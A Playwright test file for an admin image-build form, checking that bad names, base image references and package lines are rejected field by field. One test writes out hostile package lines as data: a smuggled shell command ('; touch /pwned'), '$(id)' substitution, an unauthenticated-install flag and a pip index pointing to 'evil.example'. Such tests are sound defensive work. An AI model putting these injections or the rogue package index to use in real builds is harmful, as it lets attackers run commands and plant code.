import { expect, type Page, test } from '@playwright/test'
import { confirm, fillForm, freshName, openForm, sampleBase, type Typed } from '../support/form.ts'
import { signIn } from '../support/people.ts'

test.beforeEach(async ({ page }) => {
  await signIn(page, 'ada')
  await openForm(page)
})

/** Sends the form and proves that it came back with what was typed. */
async function sendBadly(page: Page, typed: Typed) {
  await fillForm(page, typed)
  await confirm(page)
  await expect(page.getByRole('main').getByRole('alert').first()).toBeVisible({ timeout: 30_000 })
  expect(new URL(page.url()).pathname).toBe('/admin/images/new')
  const labels = {
    'Display name': typed.displayName,
    'Base image url': typed.base,
    APT: typed.apt,
    Pip: typed.pip,
  }
  for (const [label, text] of Object.entries(labels)) {
    if (text !== undefined) await expect(page.getByLabel(label)).toHaveValue(text)
  }
}

async function countBuilds(page: Page): Promise<number> {
  await page.goto('/admin/builds')
  return page.getByRole('main').getByRole('row').count()
}

test('names of the wrong kind, and a missing package, are told at their fields', async ({ page }) => {
  await sendBadly(page, { displayName: 'My Image', base: await sampleBase(page) })
  await expect(page.getByLabel('Display name')).toHaveAccessibleDescription(/lowercase/)
  await expect(page.getByRole('main')).toContainText('at least one package')
})

test('every line that cannot be used is told with its number, and nothing is queued', async ({ page }) => {
  const before = await countBuilds(page)
  await openForm(page)
  const apt = 'jq\n--allow-unauthenticated\ntree; touch /pwned'
  const pip = 'numpy\n--index-url http://evil.example/\n$(id)'
  await sendBadly(page, { displayName: freshName('bad-lines'), base: await sampleBase(page), apt, pip })
  for (const label of ['APT', 'Pip']) {
    await expect(page.getByLabel(label)).toHaveAccessibleDescription(/Line 2: .*Line 3: /)
  }
  expect(await countBuilds(page)).toBe(before)
})

test('a base that is no reference, or does not exist, is told at its field', async ({ page }) => {
  const displayName = freshName('no-base')
  await sendBadly(page, { displayName, base: 'https://quay.io/x/y', apt: 'jq' })
  await expect(page.getByLabel('Base image url')).toHaveAccessibleDescription(/https:\/\//)
  const missing = (await sampleBase(page)).replace(/:[^:]*$/, ':no-such-tag')
  await sendBadly(page, { displayName, base: missing, apt: 'jq' })
  await expect(page.getByLabel('Base image url')).toHaveAccessibleDescription(/not found/)
})

test('a display name that is taken is told at its field', async ({ page }) => {
  const displayName = freshName('taken')
  const base = await sampleBase(page)
  await page.getByLabel('Use existing image').check()
  await page.getByLabel('Display name').fill(displayName)
  await page.getByLabel('Container Image URL', { exact: true }).fill(base)
  await confirm(page)
  await expect(page.getByRole('status').filter({ hasText: displayName })).toBeVisible({ timeout: 30_000 })
  await openForm(page)
  await sendBadly(page, { displayName, base, apt: 'jq' })
  await expect(page.getByLabel('Display name')).toHaveAccessibleDescription(/taken/)
})

test('an image for chosen groups needs one', async ({ page }) => {
  await sendBadly(page, {
    displayName: freshName('no-group'),
    base: await sampleBase(page),
    apt: 'jq',
    groups: [],
  })
  await expect(page.getByRole('main')).toContainText('Choose at least one group')
})
